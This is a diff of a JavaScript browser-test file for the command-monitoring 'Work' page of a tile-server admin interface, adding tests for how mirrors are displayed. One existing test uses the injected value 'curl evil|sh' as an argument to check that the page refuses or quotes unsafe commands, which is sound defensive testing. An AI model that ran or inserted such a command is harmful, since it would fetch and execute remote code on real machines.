@@ -1,29 +1,24 @@
-/* global document -- of the page, in functions that run there */
-// The work of commands in the control room: what runs, what was interrupted, what ended.
+// The work of commands in the control room: what runs, what was interrupted, what ended; mirrors that wrote into this
+// store, and those that other machines keep of it.
 import assert from 'node:assert/strict'
 import { mkdir, writeFile } from 'node:fs/promises'
 import path from 'node:path'
-import { TIME_FACTOR, end } from '../../bench/wait.js'
+import { TIME_FACTOR, end, until } from '../../bench/wait.js'
 import { workId } from '../../core/index.js'
+import { Store } from '../../loader/index.js'
 import { finishCommand, startCommand } from '../support/command.js'
 import { useFolder } from '../support/folder.js'
 import { startUpstream } from '../support/upstream-server.js'
-import { png } from '../support/tiles.js'
-import { onAdmin } from '../support/control-room.js'
+import { png, square } from '../support/tiles.js'
+import { isRead, onAdmin, runOf, timeOf } from '../support/control-room.js'
 
 const LIVE = 2000 // milliseconds until a change shows
 const RUNS = 2000
 const DAY = 86_400_000 // milliseconds
 
-const timeOf = ms => new Date(ms).toISOString().slice(0, 19) + 'Z'
-const runOf =
-  (ms, number) => `${new Date(ms).toISOString().replace(/[-:.Z]/g, '')}-${number.toString(36).padStart(4, '0')}`
-
 const part = (page, head) => page.locator('.work .card').filter({ has: page.getByRole('heading', { name: head }) })
-const isRead =
-  page => page.waitForFunction(() => document.querySelector('.work') && !document.querySelector('.work[aria-busy]'))
 
-onAdmin('the section Work', stage => {
+onAdmin('the section Work', (stage, kind) => {
   const folder = useFolder()
 
   /** Writes a document of work. */
@@ -73,7 +68,7 @@ onAdmin('the section Work', stage => {
 
   it('shows a command as interrupted after a long silence, without a new document', async () => {
     const page = await stage.enter('work')
-    await isRead(page)
+    await isRead(page, '.work')
     const times = { started: timeOf(Date.now() - 60_000), seen: timeOf(Date.now() - 15_000) }
     await write({ command: 'seed', layer: 'osm', args: ['seed', 'osm'], ...times })
     await part(page, 'Running now').getByText('seed osm').waitFor({ timeout: LIVE * TIME_FACTOR })
@@ -83,7 +78,7 @@ onAdmin('the section Work', stage => {
 
   it('offers no command from unsafe arguments, and quotes the arguments of the others', async () => {
     const page = await stage.enter('work')
-    await isRead(page)
+    await isRead(page, '.work')
     const evil = 'tilecouch load x ; curl evil|sh'
     const ended = { command: 'load', state: 'failed', finished: timeOf(Date.now()) }
     await write({ ...ended, layer: 'free', line: evil, args: ['load', 'tiles', '--db', 'http://evil/tiles'] })
@@ -106,7 +101,7 @@ onAdmin('the section Work', stage => {
   it('shows the end of a load and a check, and a failed command with its advice', async function () {
     this.timeout(90000)
     const page = await stage.enter('work')
-    await isRead(page)
+    await isRead(page, '.work')
     const tiles = path.join(folder.dir, 'tiles', '5', '1')
     await mkdir(tiles, { recursive: true })
     for (let y = 0; y < 3; y++) await writeFile(path.join(tiles, `${y}.png`), png(y))
@@ -117,14 +112,12 @@ onAdmin('the section Work', stage => {
       await row.getByText('Done', { exact: true }).waitFor({ timeout: LIVE * TIME_FACTOR })
       await row.getByText(new RegExp(`^3( of 3)? ${unit}`)).waitFor()
     }
-    const id = await write(
-      {
-        command: 'export', layer: 'osm', done: 5, failed: 2,
-        failures: ['osm:5:1:1: <b>no</b> image', 'osm:5:1:2: gone'],
-        error: { code: 'TARGET_EXISTS', message: 'out.mbtiles exists', advice: 'Use another name.' },
-        state: 'failed', finished: timeOf(Date.now() + 1000)
-      }
-    )
+    const id = await write({
+      command: 'export', layer: 'osm', done: 5, failed: 2,
+      failures: ['osm:5:1:1: <b>no</b> image', 'osm:5:1:2: gone'],
+      error: { code: 'TARGET_EXISTS', message: 'out.mbtiles exists', advice: 'Use another name.' },
+      state: 'failed', finished: timeOf(Date.now() + 1000)
+    })
     const row = part(page, 'Ended').locator('tbody tr').first()
     await row.getByText('Use another name.').waitFor({ timeout: LIVE * TIME_FACTOR })
     await row.getByText('[TARGET_EXISTS]').waitFor()
@@ -138,7 +131,7 @@ onAdmin('the section Work', stage => {
 
   it('shows changes within two seconds, and keeps opened details open', async () => {
     const page = await stage.enter('work')
-    await isRead(page)
+    await isRead(page, '.work')
     const id = await write(
       { command: 'backup', unit: 'documents', done: 1, total: 100, failed: 1, failures: ['osm:1:1:1: gone'], rate: 10 }
     )
@@ -164,7 +157,7 @@ onAdmin('the section Work', stage => {
       await route.fulfill({ json: { ok: true, userCtx: { name: 'wanda', roles: ['tilecouch-writer'] } } })
     })
     await page.reload()
-    await isRead(page)
+    await isRead(page, '.work')
     await part(page, 'Ended').locator('tbody tr').nth(1).waitFor()
     assert.deepEqual(await page.locator('#sections a').allInnerTexts(), ['Layers', 'Work'])
     assert.deepEqual(await part(page, 'Ended').getByRole('button', { name: /^Remove/ })
@@ -226,5 +219,95 @@ onAdmin('the section Work', stage => {
     await write({ command: 'seed', layer: 'osm', done: 1 })
     await part(page, 'Running now').getByText('seed osm').waitFor({ timeout: LIVE * TIME_FACTOR })
     assert.equal(await page.locator('#same').count(), 1)
+  })
+
+  describe('mirrors', () => {
+    /** @type {Store} */
+    let other
+    before(async () => {
+      const url = new URL(stage.backend.database)
+      url.pathname = `/mirror_${process.pid}_${Date.now().toString(36)}`
+      other = await Store.create(url.href, { public: true })
+      await other.defineLayer('sea')
+      await other.write(square({ layer: 'sea', time: '2021-01-01T00:00:00Z', side: 2, seed: (x, y) => x * 2 + y }))
+      await stage.store.defineLayer('land')
+    })
+    // an embedded store has gone with its folder
+    after(() => kind === 'CouchDB' && other?.destroy())
+
+    const urlOf = store => {
+      const url = new URL(stage.backend.database)
+      url.pathname = `/${store.couch.db}`
+      return url.href
+    }
+    const works = async () => (await stage.store.couch.page({ startkey: 'work:', endkey: 'work;', include_docs: true }))
+      .map(({ doc }) => doc)
+
+    it('are shown with their source and target, and as interrupted after a long silence', async function () {
+      this.timeout(90000)
+      const page = await stage.enter('work')
+      await isRead(page, '.work')
+      const { child } = startCommand(['mirror', urlOf(other), stage.backend.database, '--live', '--layer', 'sea'])
+      const running = part(page, 'Running now').locator('.run').filter({ hasText: other.couch.db })
+      try {
+        await running.getByText(/^up to date · .* documents/).waitFor()
+        await running.getByText(`/${other.couch.db} → `).waitFor()
+      } finally {
+        await end(child, 'SIGKILL')
+      }
+      const doc = await until(async () => (await works()).find(({ command }) => command === 'mirror'))
+      await stage.store.couch.update(doc._id, before => ({ ...before, seen: timeOf(Date.now() - 600_000) }))
+      const interrupted = part(page, 'Interrupted').locator('.run').filter({ hasText: other.couch.db })
+      await interrupted.getByText('To go on:').waitFor()
+      assert.doesNotMatch(await interrupted.innerText(), /:\/\/[^/]*@/)
+    })
+
+    it('show their lag, their refused documents, and that they wait for a store', async () => {
+      const now = Date.now()
+      const running = (number, about) => ({
+        _id: workId(runOf(now, number)), type: 'work', command: 'edge',
+        args: ['edge', 'x'], state: 'running', user: stage.owner.name,
+        started: timeOf(now), seen: timeOf(now), every: 30, unit: 'documents', done: 100,
+        about: {
+          source: `https://anna:secret@main-${number}.example.org/tiles`,
+          target: 'embedded', state: 'following', lag: 1, refused: 0, ...about
+        }
+      })
+      const docs = [running(1, { lag: 900 }), running(2, { refused: 3 }), running(3, { state: 'away' })]
+      assert.deepEqual((await stage.store.couch.bulk(docs)).filter(({ error }) => error), [])
+      const page = await stage.enter('work')
+      await isRead(page, '.work')
+      const run = number => part(page, 'Running now').locator('.run')
+        .filter({ hasText: `https://main-${number}.example.org/tiles → embedded` })
+      await run(1).getByText(/^up to date · 15 mins? behind · 100 documents$/).waitFor()
+      await run(2).getByText(/^up to date · 100 documents · 3 refused$/).waitFor()
+      await run(3).getByText(/^waits for a store · 100 documents$/).waitFor()
+    })
+
+    it('on other machines are shown by their checkpoints, with their layers and lag', async function () {
+      this.timeout(60000)
+      const mirror = ['mirror', stage.backend.database, urlOf(other), '--layer', 'land']
+      const page = await stage.enter('work')
+      await isRead(page, '.work')
+      const copies = part(page, 'Mirrors on other machines')
+      assert.equal(await copies.isVisible(), false, 'a mirror into this store is none of it')
+      await finishCommand(mirror)
+      const row = copies.locator('tbody tr').filter({ hasText: other.couch.db })
+      await row.getByText(/^\d+ changes? behind$|^up to date$/).waitFor()
+      assert.match(await row.innerText(), /\bland\b/)
+      assert.match(await row.locator('td').last().innerText(), /^\d{1,2} \w+ 20\d\d/)
+      await stage.store.write(square({ layer: 'land', time: '2021-01-01T00:00:00Z', side: 3, seed: () => 1 }))
+      await row.getByText(/^\d+ changes behind$/).waitFor()
+      assert.equal(await row.count(), 1)
+    })
+
+    it('can be started by a command that the page fills in without the password', async () => {
+      const page = await stage.enter('work')
+      const start = part(page, 'Start something')
+      await start.getByLabel('Command').selectOption('mirror')
+      await start.getByLabel('Folder, file or address').fill('https://anna:secret@maps.example.org/tiles')
+      const command = /^tilecouch mirror \S+ https:\/\/maps\.example\.org\/tiles --live$/
+      await start.locator('code').filter({ hasText: command }).waitFor()
+    })
   })
 })
